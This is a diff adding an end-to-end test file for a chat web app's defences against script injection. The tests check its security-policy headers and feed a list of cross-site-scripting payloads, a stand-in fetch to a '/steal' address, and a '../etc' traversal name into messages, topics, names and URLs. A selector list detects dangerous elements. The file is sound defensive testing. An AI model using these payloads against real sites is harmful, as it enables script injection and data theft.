@@ -1,0 +1,136 @@
+import { type ApiUser, PASSWORD, registerOverApi } from './api.ts';
+import type { Visitor } from './browser.ts';
+import { openStage, type Stage } from './stage.ts';
+import { message, signIn } from './steps.ts';
+
+/** Each would set `window.pwned` if it ran. */
+const attacks = [
+  '<img src=x onerror="window.pwned=1">',
+  '<svg onload="window.pwned=1"><animate onbegin="window.pwned=1" attributeName="x"/></svg>',
+  '<script>window.pwned=1</script>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '[a link](javascript:window.pwned=1)',
+  '[another](  JaVaScRiPt:window.pwned=1 "title")',
+  '[data](data:text/html,<script>window.pwned=1</script>)',
+  'javascript:window.pwned=1//example.com',
+  '![](x"onerror="window.pwned=1)',
+  '`<img src=x onerror="window.pwned=1">`',
+  '```html\n<img src=x onerror="window.pwned=1">\n```',
+  '> <a href="javascript:window.pwned=1" onclick="window.pwned=1">quoted</a>',
+];
+
+/** Elements and attributes that could run something, wherever they stand. */
+const DANGEROUS = [
+  'script:not([src])',
+  'iframe',
+  'object',
+  'embed',
+  '[onerror]',
+  '[onload]',
+  '[onclick]',
+  '[onbegin]',
+  '[style*="url("]',
+  'a[href^="javascript:" i]',
+  'a[href^="data:" i]',
+].join(', ');
+
+describe('the page and what people write', () => {
+  let stage: Stage;
+  let mallory: ApiUser;
+  let ann: Visitor;
+
+  beforeAll(async () => {
+    stage = await openStage();
+    await registerOverApi(stage.product.url, 'ann');
+    mallory = await registerOverApi(stage.product.url, 'mallory');
+    ann = await stage.enter('ann');
+    await signIn(ann.page, 'ann', PASSWORD);
+  }, 60_000);
+  afterAll(() => stage?.close());
+
+  it('comes with a policy that allows nothing inline and nothing from elsewhere', async () => {
+    for (const path of ['/', '/login', '/rooms/tea', '/theme.js', '/nothing-here']) {
+      const { headers } = await fetch(new URL(path, stage.product.url));
+      const policy = headers.get('content-security-policy') ?? '';
+      expect(policy).toMatch(/default-src 'none'/);
+      expect(policy).toMatch(/script-src 'self'(?:;|$)/);
+      expect(policy).toMatch(/style-src 'self'(?:;|$)/);
+      expect(policy).not.toMatch(/unsafe|\*|https?:/);
+      expect(headers.get('x-content-type-options')).toBe('nosniff');
+    }
+  });
+
+  it.each([
+    [
+      'an inline script',
+      `const it = document.createElement('script'); it.textContent = 'window.pwned = 1'; document.body.append(it)`,
+      'script-src-elem',
+    ],
+    [
+      'an inline handler',
+      `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned = 1">')`,
+      'script-src-attr',
+    ],
+    [
+      'a script from elsewhere',
+      `const it = document.createElement('script'); it.src = 'http://127.0.0.1:9/x.js'; document.body.append(it)`,
+      'script-src-elem',
+    ],
+    [
+      'an inline style',
+      `document.body.insertAdjacentHTML('beforeend', '<p style="color: red">x</p>')`,
+      'style-src-attr',
+    ],
+    ['a request to elsewhere', `fetch('http://127.0.0.1:9/steal').catch(() => {})`, 'connect-src'],
+    ['text made into code', `setTimeout('window.pwned = 1')`, 'script-src'],
+  ])('blocks %s', async (_what, attempt, directive) => {
+    const violated = await ann.page.evaluate(
+      `new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
+        ${attempt};
+      })`,
+    );
+    expect(violated).toBe(directive);
+    expect(await ann.page.evaluate('window.pwned')).toBeUndefined();
+    ann.complaints.length = 0;
+  });
+
+  it('shows scripts in messages and topics as text, or as nothing', async () => {
+    await mallory.createRoom('trap', { topic: attacks.slice(0, 3).join(' ').slice(0, 200) });
+    for (const attack of attacks) {
+      await mallory.post('trap', `${attack}\n\nattack`);
+      await mallory.write('ann', `${attack}\n\nattack`);
+    }
+    for (const path of ['/', '/rooms/trap', '/direct/mallory']) {
+      await ann.page.goto(path);
+      await (path === '/' ? ann.page.getByRole('link', { name: /^trap/ }) : message(ann.page, 'attack').last())
+        .first()
+        .waitFor();
+      expect(await ann.page.locator(DANGEROUS).count()).toBe(0);
+      expect(await ann.page.evaluate('window.pwned')).toBeUndefined();
+    }
+    for (const link of await ann.page.getByRole('article').getByRole('link').all()) {
+      expect(await link.getAttribute('href')).toMatch(/^(?:https?:|mailto:|\/)/);
+    }
+  });
+
+  it('refuses scripts in names', async () => {
+    for (const name of ['<b>x</b>', 'a"onclick="x', 'javascript:x', '../etc']) {
+      await expect(registerOverApi(stage.product.url, name)).rejects.toThrow();
+      await expect(mallory.createRoom(name)).rejects.toThrow();
+    }
+  });
+
+  it('shows scripts in an address as text', async () => {
+    for (const path of ['/rooms/%3Cimg%20src=x%20onerror=window.pwned=1%3E', '/login?next=javascript:window.pwned=1']) {
+      await ann.page.goto(path);
+      await ann.page.getByRole('main').waitFor();
+      expect(await ann.page.locator(DANGEROUS).count()).toBe(0);
+      expect(await ann.page.evaluate('window.pwned')).toBeUndefined();
+    }
+  });
+
+  it('violates its own policy nowhere', () => {
+    expect(ann.complaints).toEqual([]);
+  });
+});
